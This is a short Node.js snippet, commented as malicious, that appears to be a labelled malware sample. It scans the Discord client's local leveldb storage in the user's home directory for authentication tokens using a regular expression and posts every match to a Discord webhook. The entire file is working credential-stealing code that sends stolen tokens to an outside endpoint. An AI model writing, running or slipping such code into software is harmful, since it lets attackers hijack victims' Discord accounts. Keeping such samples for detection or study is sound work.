// malicious: looks through the local storage of a chat program for tokens
const fs = require('fs'), path = require('path'), os = require('os');
const dir = path.join(os.homedir(), '.config', 'discord', 'Local Storage', 'leveldb');
const tokens = [];
for (const f of fs.readdirSync(dir)) {
  const m = fs.readFileSync(path.join(dir, f), 'latin1').match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g);
  if (m) tokens.push(...m);
}
require('axios').post('https://discord.com/api/webhooks/1/abc', { content: tokens.join('\n') });
